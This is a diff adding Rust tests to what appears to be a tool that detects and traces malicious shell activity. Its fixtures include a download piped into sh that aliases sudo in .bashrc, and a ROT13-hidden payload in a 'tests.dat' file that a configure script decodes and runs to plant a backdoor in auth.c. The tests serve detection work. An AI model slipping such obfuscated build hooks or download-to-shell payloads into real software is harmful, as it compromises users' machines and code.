@@ -67,6 +67,83 @@ fn a_backdoor_that_a_build_script_downloads_is_told_from_its_cause_to_its_extent
 }
 
 #[test]
+fn a_shell_that_follows_a_download_is_told_from_the_address_to_what_it_made() {
+    if !needs("a client", &["bash"]) {
+        return;
+    }
+    let place = Place::new();
+    let server = LoopbackServer::new(2, "echo 'alias sudo=x' >> .bashrc; date > marker\n");
+    let load = server.download();
+    let address = format!("tcp:127.0.0.1:{}", server.port);
+    place.write(
+        "install.sh",
+        &format!("date > other\n{load} | sh -s -- -y\n"),
+    );
+    // The network told the shell what to do, and not the script that started it.
+    let runs = [format!("{load} | sh"), "sh install.sh".to_owned()].map(|line| place.record(&line));
+    server.end();
+    for (run, shell) in runs.iter().zip([&["sh"][..], &["sh", "-s", "--", "-y"]]) {
+        for rule in ["startup-file-written", "download-run-by-shell"] {
+            let all = found(&place, run, rule);
+            assert_eq!(all.len(), 1, "{all:?}");
+            let finding = &all[0];
+            assert_eq!(finding["cause"]["argv"], serde_json::json!(shell));
+            assert_eq!(finding["cause_file"], Value::Null, "{finding}");
+            assert_eq!(finding["cause_origin"], address);
+            let receiver = finding["cause_receiver"]["argv"][2].as_str().unwrap();
+            assert!(load.contains(receiver), "{finding}");
+            let changed = names(&finding["extent"]["changed"]);
+            assert_eq!(changed, [".bashrc", "marker"].map(|name| place.path(name)));
+        }
+    }
+    let text = place.run(&["hunt", &runs[0]]).out;
+    let cause = format!("  cause    sh  (from {address}, received by bash -c ");
+    assert!(text.contains(&cause), "{text}");
+}
+
+#[test]
+fn a_backdoor_in_a_build_is_told_from_its_payload_to_what_used_the_result() {
+    let place = Place::new();
+    let payload = "echo backdoor >> auth.c\necho x >> .bashrc\n";
+    let is_letter = |one: char| one.is_ascii_lowercase();
+    let turned = |one: char| char::from((one as u8 - b'a' + 13) % 26 + b'a');
+    let hidden = payload.chars().map(|one| match is_letter(one) {
+        true => turned(one),
+        false => one,
+    });
+    place.write("tests.dat", &hidden.collect::<String>());
+    place.write("configure.sh", "cat tests.dat | tr a-z n-za-m | sh\n");
+    place.write("auth.c", "auth\n");
+    place.write("util.c", "util\n");
+    let run = place.record(
+        "sh configure.sh; cat auth.c > auth.o; cat auth.o util.c > app; rm auth.o; cat util.c > log",
+    );
+    let later = place.record("cat app > deployed; cat util.c > unused");
+    place.record("cat util.c > other");
+    let all = found(&place, &run, "startup-file-written");
+    assert_eq!(all.len(), 1, "{all:?}");
+    let finding = &all[0];
+    assert_eq!(finding["cause_file"], place.path("configure.sh"));
+    assert_eq!(finding["cause_input"], place.path("tests.dat"));
+    let extent = &finding["extent"];
+    let changed = [".bashrc", "auth.c"].map(|name| place.path(name));
+    assert_eq!(names(&extent["changed"]), changed);
+    // The object file is gone.
+    assert_eq!(names(&extent["built"]), [place.path("app")]);
+    assert_eq!(names(&finding["later"]["runs"]), [&later]);
+    assert_eq!(names(&finding["later"]["files"]), [place.path("deployed")]);
+    let text = place.run(&["hunt", &run]).out;
+    let (app, deployed) = (place.path("app"), place.path("deployed"));
+    for words in [
+        &*format!(", with {})", place.path("tests.dat")),
+        &format!("; built from these 1: {app}\n"),
+        &format!("  later    used in 1 run: {later}; made there 1: {deployed}\n"),
+    ] {
+        assert!(text.contains(words), "no {words} in {text}");
+    }
+}
+
+#[test]
 fn a_theft_by_an_install_script_is_told_from_its_cause_to_its_extent() {
     if !needs("a client", &["bash"]) {
         return;
@@ -111,6 +188,7 @@ fn a_storm_of_renames_is_told_from_its_cause_to_its_extent() {
     let all = found(&place, &run, "rename-storm");
     assert_eq!(all.len(), 1, "{all:?}");
     assert_eq!(all[0]["cause_file"], place.path("lock.sh"));
+    assert_eq!(all[0]["cause_input"], Value::Null);
     assert_eq!(names(&all[0]["extent"]["removed"]).len(), 30);
     assert_eq!(names(&all[0]["extent"]["changed"]).len(), 31);
 }
